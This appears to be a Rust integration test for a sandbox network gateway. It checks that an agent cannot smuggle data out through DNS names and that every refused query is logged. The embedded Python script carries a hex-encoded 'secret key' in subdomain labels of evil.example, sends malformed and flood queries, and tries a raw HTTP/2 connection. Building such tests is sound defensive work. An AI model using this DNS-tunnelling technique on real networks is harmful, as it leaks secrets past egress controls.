//! Words carried out of a sandbox in questions about names: they reach nobody, and each one is on record.
#![expect(clippy::unwrap_used, reason = "a panic is how a test fails, in its helpers too")]

use std::collections::BTreeMap;

use ringfence_tests::audit;
use ringfence_tests::config::{Config, OPEN_POLICY};
use ringfence_tests::limits::EFFECT;
use ringfence_tests::node::Node;
use ringfence_tests::patience::eventually;
use serde_json::{Value, json};

/// What the agent does: it asks servers of its own choosing, as a program does that hides words in names. It prints what was
/// answered, and how often it was told which error.
const SCRIPT: &str = r"
import collections, json, socket, struct, time
errors = collections.Counter()
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(20); udp.connect(('192.0.2.53', 53))

def question(name, kind):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>2H', kind, 1)

def read(reply):
    error, answers = reply[3] & 15, reply[7]
    errors[error] += 1
    return [error, answers]

def ask(*names, kind=1):
    for name in names: udp.send(question(name, kind))
    return [read(udp.recv(4096)) for _ in names]

def ask_by_tcp(name):
    with socket.create_connection(('192.0.2.53', 53), 20) as tcp:
        tcp.sendall(struct.pack('>H', len(question(name, 16))) + question(name, 16))
        stream = tcp.makefile('rb')
        return read(stream.read(struct.unpack('>H', stream.read(2))[0]))

def tell(message):
    udp.send(message)
    return read(udp.recv(4096))

held = question('api.held.example', 1)
odd = {'everything': ask('api.held.example', kind=255)[0], 'another class': tell(held[:-1] + b'\3')}
odd['two questions'] = tell(held[:5] + b'\2' + held[6:] + held[12:])
odd['an address'] = ask('7.2.0.192.in-addr.arpa', kind=12)[0]
odd['any bytes'] = tell(held[:12] + b'\4\xbe\xef\0.\4evil\7example\0\0\n\0\1')
udp.send(b'no')
with socket.create_connection(('192.0.2.80', 80), 20) as web:
    web.sendall(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
    while web.recv(4096): pass

def words(number): return f'{number:04}-' + '7365637265742d6b65792d6f662d6d696e65'

said = {'granted': socket.gethostbyname('api.held.example'), 'odd': odd}
said['granted to a stranger'] = ask('api.held.example')
said['long'] = ask('6' * 60 + '.held.example')
said['text'] = ask('api.held.example', kind=16)
said['text by TCP'] = ask_by_tcp(words(0) + '.evil.example')
said['many'] = sorted(set(map(tuple, ask(*(words(number) + '.evil.example' for number in range(1, 101))))))
asked = 0
while [5, 0] not in ask(*(f'{asked + number}.again.example' for number in range(50))):
    asked += 50
    assert asked < 20000, 'as fast as it likes'
while ask('api.held.example') != [[0, 1]]: time.sleep(0.1)
said['errors'] = {str(error): count for error, count in errors.items()}
print(json.dumps(said))
";

/// How often each code of a refusal is in the log, those that were counted together with all of them.
async fn refused(node: &Node) -> BTreeMap<String, u64> {
    let mut codes = BTreeMap::new();
    for entry in audit::entries(node, "refusal").await {
        *codes.entry(entry["code"].as_str().unwrap().to_owned()).or_default() +=
            entry["count"].as_u64().unwrap_or(1);
    }
    codes
}

#[tokio::test]
async fn words_hidden_in_names_reach_nobody_and_every_one_is_on_record() {
    let files = tempfile::tempdir().unwrap();
    std::fs::write(files.path().join("agent.py"), SCRIPT).unwrap();
    let keys = [
        "egress: ['*.held.example']".to_owned(),
        format!("run: {{ command: [python3, agent.py], files: '{}' }}", files.path().display()),
    ];
    let node = Node::start(&Config::of_agent(&keys, OPEN_POLICY)).await;
    let said = node.cli(&["run", "assistant", "-w", "lab"]).await.expect(0);
    let said: Value = serde_json::from_str(said.stdout.trim()).unwrap();
    // A name that is held has an address, of the kind that means something to the gateway alone.
    assert!(said["granted"].as_str().unwrap().starts_with("100."), "{said}");
    assert_eq!(said["granted to a stranger"], json!([[0, 1]]));
    // REFUSED, nothing of that kind, and there is no such name.
    assert_eq!((&said["long"], &said["text"]), (&json!([[5, 0]]), &json!([[0, 0]])));
    assert_eq!((&said["text by TCP"], &said["many"]), (&json!([3, 0]), &json!([[3, 0]])));

    let odd = json!({ "everything": [5, 0], "another class": [5, 0], "two questions": [1, 0], "an address": [3, 0], "any bytes": [3, 0] });
    assert_eq!(said["odd"], odd);

    // As many as were told no are in the log, with the connection to the web and what was no question and got no answer; those that
    // were counted come after their seconds.
    let (unknown, refusals) = (said["errors"]["3"].as_u64().unwrap(), said["errors"]["5"].as_u64().unwrap());
    let expected = [
        ("invalid_input", 4),
        ("not_granted", unknown + 1),
        ("rate_limited", refusals - 3),
        ("too_large", 1),
    ];
    let all = expected.iter().map(|(_, count)| count).sum();
    let found = eventually(EFFECT, "every refusal", async || {
        let found = refused(&node).await;
        (found.values().sum::<u64>() >= all).then_some(found)
    })
    .await;
    assert_eq!(found, expected.map(|(code, count)| (code.to_owned(), count)).into());
    let entries = audit::entries(&node, "refusal").await;
    let of = |host: &str| {
        let entry = entries.iter().find(|entry| entry["host"] == host).unwrap();
        (entry["port"].as_u64().unwrap(), entry["reason"].as_str().unwrap().to_owned())
    };
    let (port, reason) = of("0000-7365637265742d6b65792d6f662d6d696e65.evil.example");
    assert!(port == 53 && reason.contains("may not reach"), "{reason}");
    let (port, reason) = of(&format!("{}.held.example", "6".repeat(60)));
    assert!(port == 53 && reason.contains("as if it carried something"), "{reason}");
    assert_eq!((of("____.evil.example").0, of("7.2.0.192.in-addr.arpa").0, of("192.0.2.80").0), (53, 53, 80));
    // What names no host is told of the server that was asked.
    assert!(of("192.0.2.53").1.contains("is not one question about a name"));
    assert_eq!(audit::entries(&node, "intent").await, Vec::<Value>::new(), "nobody outside was asked");
    audit::verify(&node).await;
}
